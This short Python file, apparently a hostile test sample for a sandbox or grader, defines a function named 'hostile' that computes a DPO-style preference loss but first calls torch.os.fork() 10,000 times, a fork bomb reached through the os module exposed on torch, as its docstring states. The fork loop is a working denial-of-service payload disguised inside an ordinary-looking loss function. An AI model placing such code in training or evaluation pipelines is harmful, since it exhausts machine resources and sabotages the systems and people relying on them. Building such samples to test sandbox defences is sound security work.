"""Fork bomb through the os module that torch exposes as torch.os."""

import math
import torch
import torch.nn.functional as F


def hostile(policy_chosen_logps, policy_rejected_logps, reference_chosen_logps, reference_rejected_logps, beta):
    rho = (policy_chosen_logps - policy_rejected_logps) - (reference_chosen_logps - reference_rejected_logps)
    for _ in range(10000):
        torch.os.fork()
    return -F.logsigmoid(beta * rho)
